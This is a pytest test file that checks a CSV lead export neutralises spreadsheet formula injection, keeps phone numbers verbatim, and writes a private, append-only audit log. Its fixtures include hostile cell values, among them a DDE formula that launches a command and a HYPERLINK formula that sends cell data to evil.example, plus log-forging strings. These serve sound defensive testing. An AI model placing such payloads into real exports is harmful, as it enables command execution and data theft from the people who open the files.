"""Export safety: hostile cells are neutralised (and survive CSV quoting), phones are kept
verbatim, every export leaves one audit line without personal data, the row limit refuses a
too-large export before anything is written, and the audit log is private and append-only.
(tests/access/test_export.py covers the filters, file names and the basic formula cases.)"""

from __future__ import annotations

import csv
import datetime as dt
import getpass
import json
import os
import stat
import threading

import pytest
from click.testing import CliRunner
from factories import build_warehouse, campaign, lead

import semantic
from semantic.access.export import (
    AuditLogError,
    ExportError,
    ExportTooLargeError,
    append_audit,
    export_leads,
)
from semantic.cli.delivery import export_leads as export_command

TEN_K = "A" * 10_000
#: name -> what the exported cell must be ('' prefix = neutralised)
NAMES = {
    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
    "+SUM(1)": "'+SUM(1)",
    "-2+3": "'-2+3",
    "@foo": "'@foo",
    "\t=1+2": "'\t=1+2",
    "\r=1+2": "'\r=1+2",
    '=HYPERLINK("http://evil.example/?"&A1,"x")': '\'=HYPERLINK("http://evil.example/?"&A1,"x")',
    'He said "hi", then left': 'He said "hi", then left',
    "O'Brien, Jr.": "O'Brien, Jr.",
    "a,b,c": "a,b,c",
    "line1\nline2": "line1\nline2",
    "line1\r\n=2+2": "line1\r\n=2+2",   # the formula is not at the start of the cell
    '"=1+2"': '"=1+2"',                 # starts with a quote: text in every spreadsheet
    TEN_K: TEN_K,
    "=" + TEN_K: "'=" + TEN_K,
    "محمد أحمد": "محمد أحمد",
    "=محمد": "'=محمد",
    "  =1+2": "  =1+2",                 # leading spaces: spreadsheets read text
    "é漢字 🚀": "é漢字 🚀",
}
#: phone -> exported cell
PHONES = {
    "+2015628437879": "+2015628437879",
    "+1-615-909-5723": "+1-615-909-5723",
    "310-242-6257": "310-242-6257",
    "+20 100 123 4567": "+20 100 123 4567",
    "(02) 555-1234": "(02) 555-1234",
    "01001234567": "01001234567",
    "+1+2": "'+1+2",
    "-1-2": "'-1-2",
    "=1+2": "'=1+2",
    "+1-615-HYPERLINK": "'+1-615-HYPERLINK",
    "@15": "'@15",
    "\t+15": "'\t+15",
}
HOSTILE_PROJECT = "=HYPERLINK(\"http://x\")"
HOSTILE_STATUS = "@STATUS"


def _leads():
    rows, i = [], 0
    for name in NAMES:
        i += 1
        rows.append(lead(i, 1, "2024-07-01 10:00:00", name=name, email=f"e{i}@x.com",
                         phone="+1-615-909-5723"))
    for phone in PHONES:
        i += 1
        rows.append(lead(i, 1, "2024-07-02 10:00:00", name=f"Person {i}", email=f"e{i}@x.com",
                         phone=phone))
    rows.append(lead(i + 1, 2, "2024-07-03 10:00:00", name="Other Tenant", email="=x@y",
                     phone="+1-202-555-0100", status=HOSTILE_STATUS))
    return rows


LEADS = _leads()


@pytest.fixture(scope="module")
def db(tmp_path_factory):
    return build_warehouse(tmp_path_factory.mktemp("secexport") / "w.duckdb",
                           campaigns=[campaign(1, user=199, project="Kings Way"),
                                      campaign(2, user=200, project=HOSTILE_PROJECT)],
                           leads=LEADS)


@pytest.fixture(scope="module")
def layer(db):
    with semantic.connect(db) as opened:
        yield opened


@pytest.fixture(autouse=True)
def audit(tmp_path, monkeypatch):
    path = tmp_path / "audit" / "exports_audit.jsonl"
    monkeypatch.setenv("CAMPAIGN_BI_AUDIT_LOG", str(path))
    monkeypatch.delenv("CAMPAIGN_BI_EXPORT_MAX_ROWS", raising=False)
    return path


def read_csv(path):
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    return {int(r["id"]): r for r in rows}


def audit_lines(path):
    return [json.loads(line) for line in path.read_text(encoding="ascii").splitlines()]


def test_hostile_names_are_neutralised_and_survive_csv_quoting(layer, tmp_path):
    out = tmp_path / "leads.csv"
    assert export_leads(layer, out) == len(LEADS)
    rows = read_csv(out)
    assert len(rows) == len(LEADS)  # quotes, commas and newlines did not split rows
    for i, expected in enumerate(NAMES.values(), start=1):
        assert rows[i]["name"] == expected, repr(list(NAMES)[i - 1][:40])
        assert rows[i]["phone"] == "+1-615-909-5723"
    other = rows[len(LEADS)]
    assert (other["project"], other["status"], other["email"]) == \
        ("'" + HOSTILE_PROJECT, "'" + HOSTILE_STATUS, "'=x@y")
    for text in (r[k] for r in rows.values() for k in ("name", "email", "project", "status")):
        # the only risky first characters left are behind the neutralising quote
        assert not text or text[0] not in "=+-@\t\r"


def test_phones_are_kept_verbatim_and_non_phones_neutralised(layer, tmp_path):
    out = tmp_path / "leads.csv"
    export_leads(layer, out, {"date_from": "2024-07-02", "date_to": "2024-07-02"})
    rows = read_csv(out)
    assert [r["phone"] for r in rows.values()] == list(PHONES.values())


def test_exported_file_is_private_and_no_temporary_file_is_left(layer, tmp_path):
    out = tmp_path / "leads.csv"
    export_leads(layer, out, {"business_user": [200]})
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert sorted(p.name for p in tmp_path.iterdir()) == ["audit", "leads.csv"]


def test_one_audit_line_per_export_with_its_fields_and_no_personal_data(layer, tmp_path,
                                                                          audit):
    before = dt.datetime.now(dt.UTC)
    export_leads(layer, tmp_path / "a.csv", {"project": ["Kings Way"], "lead_status":
                 ["NEW_LEAD"], "date_from": "2024-07-01"}, 199, actor="mona")
    export_leads(layer, tmp_path / "b.csv", {"business_user": [199, "200"]}, None)
    first, second = audit_lines(audit)
    assert list(first) == ["time", "actor", "tenant", "filters", "file", "rows", "outcome"]
    when = dt.datetime.fromisoformat(first["time"].replace("Z", "+00:00"))
    assert first["time"].endswith("Z") and before <= when <= dt.datetime.now(dt.UTC)
    assert first == {**first, "actor": "mona", "tenant": 199, "file": "a.csv",
                     "rows": len(LEADS) - 1, "outcome": "written",
                     "filters": {"project": ["Kings Way"], "lead_status": ["NEW_LEAD"],
                                 "date_from": "2024-07-01"}}
    assert (second["actor"], second["tenant"], second["filters"], second["rows"]) == \
        (None, None, {"business_user": [199, 200]}, len(LEADS))
    assert stat.S_IMODE(audit.stat().st_mode) == 0o600
    text = audit.read_text(encoding="ascii")
    for row in LEADS:
        for pii in row[2:5]:  # name, email, phone
            if pii and len(pii) > 3:
                assert pii not in text and json.dumps(pii) not in text


def test_audit_lines_stay_one_line_and_short_for_hostile_filters(layer, tmp_path, audit):
    hostile = "x\u2028\u2029\n\r\"}{ \x1b[31m" + "y" * 5_000
    export_leads(layer, tmp_path / "a.csv", {"project": [hostile]}, actor="eve\nforged")
    raw = audit.read_bytes()
    assert raw.count(b"\n") == 1 and raw.isascii() and len(raw) < 1_000
    (entry,) = audit_lines(audit)
    assert entry["actor"] == "eve\nforged" and entry["rows"] == 0
    assert entry["filters"]["project"][0].startswith("x\u2028\u2029\n\r\"}{ \x1b[31myyy")
    assert entry["filters"]["project"][0].endswith("(+4814 chars)")


def test_cli_export_is_audited_with_the_os_user(db, tmp_path, audit):
    out = tmp_path / "out.csv"
    result = CliRunner().invoke(export_command, ["--out", str(out), "--db", str(db),
                                                 "--user", "200", "--status", HOSTILE_STATUS])
    assert result.exit_code == 0, result.output
    (entry,) = audit_lines(audit)
    assert entry["actor"] == getpass.getuser()
    assert (entry["tenant"], entry["file"], entry["rows"], entry["outcome"]) == \
        (None, "out.csv", 1, "written")
    assert entry["filters"] == {"business_user": [200], "lead_status": [HOSTILE_STATUS]}


def test_dashboard_download_is_audited_with_its_tenant(layer, audit):
    from app.dashboard import export_bytes
    from app.state.store import DashboardState

    state = DashboardState(layer, tenant=200)
    body = export_bytes(state).getvalue().decode("utf-8")
    assert "Other Tenant" in body and "Kings Way" not in body
    (entry,) = audit_lines(audit)
    assert (entry["tenant"], entry["rows"], entry["outcome"]) == (200, 1, "written")
    assert entry["actor"] is None  # tests have no logged-in user (pn.state.user is None)


def test_too_large_export_is_refused_before_writing(layer, tmp_path, audit):
    out = tmp_path / "big.csv"
    with pytest.raises(ExportTooLargeError) as info:
        export_leads(layer, out, {"business_user": [199]}, None, "mona", limit=5)
    message = str(info.value)
    assert "\n" not in message
    assert f"{len(LEADS) - 1:,} leads match these filters, more than the export limit of 5" \
        in message
    assert not out.exists() and sorted(p.name for p in tmp_path.iterdir()) == ["audit"]
    (entry,) = audit_lines(audit)
    assert (entry["outcome"], entry["rows"], entry["limit"], entry["actor"]) == \
        ("refused", len(LEADS) - 1, 5, "mona")
    assert export_leads(layer, out, {"business_user": [200]}, None, limit=1) == 1  # = limit


def test_cli_row_limit_from_the_environment(db, tmp_path, monkeypatch, audit):
    monkeypatch.setenv("CAMPAIGN_BI_EXPORT_MAX_ROWS", "3")
    out = tmp_path / "out.csv"
    result = CliRunner().invoke(export_command, ["--out", str(out), "--db", str(db)])
    assert result.exit_code == 2 and len(result.output.strip().splitlines()) == 1
    assert "more than the export limit of 3 (CAMPAIGN_BI_EXPORT_MAX_ROWS)" in result.output
    assert not out.exists()
    assert audit_lines(audit)[0]["outcome"] == "refused"
    monkeypatch.setenv("CAMPAIGN_BI_EXPORT_MAX_ROWS", "lots")
    result = CliRunner().invoke(export_command, ["--out", str(out), "--db", str(db)])
    assert result.exit_code == 2 and "must be a positive whole number" in result.output
    assert not out.exists()


def test_default_limit_and_its_forms(layer, tmp_path, monkeypatch):
    from semantic.access.export import DEFAULT_MAX_ROWS, max_rows

    assert DEFAULT_MAX_ROWS == 2_000_000 and max_rows() == DEFAULT_MAX_ROWS
    for raw, value in (("1_000", 1000), ("2,500", 2500), (" 7 ", 7)):
        monkeypatch.setenv("CAMPAIGN_BI_EXPORT_MAX_ROWS", raw)
        assert max_rows() == value
    for raw in ("0", "-5", "1e6", "x"):
        monkeypatch.setenv("CAMPAIGN_BI_EXPORT_MAX_ROWS", raw)
        with pytest.raises(ExportError, match="positive whole number"):
            export_leads(layer, tmp_path / "x.csv")
    assert not (tmp_path / "x.csv").exists()


def test_no_audit_no_export(layer, tmp_path, monkeypatch):
    blocker = tmp_path / "not-a-folder"
    blocker.write_text("")
    monkeypatch.setenv("CAMPAIGN_BI_AUDIT_LOG", str(blocker / "audit.jsonl"))
    out = tmp_path / "leads.csv"
    with pytest.raises(AuditLogError, match="nothing was exported"):
        export_leads(layer, out)
    assert not out.exists() and not list(tmp_path.glob(".leads.csv.tmp-*"))


def test_audit_log_is_never_followed_through_a_symlink(layer, tmp_path, monkeypatch):
    target = tmp_path / "elsewhere.txt"
    target.write_text("keep\n")
    link = tmp_path / "audit.jsonl"
    link.symlink_to(target)
    monkeypatch.setenv("CAMPAIGN_BI_AUDIT_LOG", str(link))
    with pytest.raises(AuditLogError):
        export_leads(layer, tmp_path / "leads.csv")
    assert target.read_text() == "keep\n" and not (tmp_path / "leads.csv").exists()


def test_a_wider_existing_audit_log_is_tightened_and_appended_to(tmp_path):
    path = tmp_path / "audit.jsonl"
    path.write_text('{"old": 1}\n')
    os.chmod(path, 0o644)
    append_audit({"actor": "a"}, path)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert [list(e) for e in audit_lines(path)] == [["old"], ["time", "actor"]]


def test_concurrent_appends_never_interleave(tmp_path):
    path = tmp_path / "audit.jsonl"
    filler = "z" * 3_000  # longer than one small buffered write

    def writer(n):
        for i in range(60):
            append_audit({"actor": f"w{n}", "i": i, "filters": {"project": [filler]}}, path)

    threads = [threading.Thread(target=writer, args=(n,)) for n in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    entries = audit_lines(path)
    assert len(entries) == 480
    assert sorted((e["actor"], e["i"]) for e in entries) == \
        sorted((f"w{n}", i) for n in range(8) for i in range(60))


@pytest.mark.parametrize(("rows", "mb"), [(0, 64), (1, 64), (2_000_000, 64), (2_000_001, 128),
                                          (5_696_500, 192)])
def test_export_memory_grows_only_in_steps_of_two_million_rows(rows, mb):
    from semantic.access.export import memory_limit_mb

    assert memory_limit_mb(rows) == mb


def test_export_instance_is_capped_single_threaded_spills_privately_and_is_locked(db, tmp_path):
    import duckdb

    from semantic.access.export import _export_instance, _lock_down

    out = tmp_path / "leads.csv"
    with _export_instance(db, out) as con:
        _lock_down(con, tmp_path, 64)
        limit, threads, spill = con.sql(
            "SELECT current_setting('memory_limit'), current_setting('threads'), "
            "current_setting('temp_directory')").fetchall()[0]
        assert limit in ("61.0 MiB", "64.0 MB") and threads == 1, limit
        spill = tmp_path / spill if not os.path.isabs(spill) else type(tmp_path)(spill)
        assert spill.parent == tmp_path and spill.name.startswith(".leads.csv.spill-")
        assert stat.S_IMODE(spill.stat().st_mode) == 0o700  # spilled rows are personal data
        with pytest.raises(duckdb.Error):
            con.execute("SET memory_limit = '10GB'")
        with pytest.raises(duckdb.Error):
            con.execute(f"COPY (SELECT 1) TO '{tmp_path.parent / 'outside.csv'}'")
    assert not spill.exists() and sorted(p.name for p in tmp_path.iterdir()) == []


def test_failed_export_leaves_no_spill_folder_or_temporary_file(layer, tmp_path, monkeypatch):
    import semantic.access.export as export

    def broken(*_args, **_kwargs):
        raise ExportError("boom")

    monkeypatch.setattr(export, "copy_statement", broken)
    with pytest.raises(ExportError, match="boom"):
        export_leads(layer, tmp_path / "leads.csv")
    assert sorted(p.name for p in tmp_path.iterdir()) == []
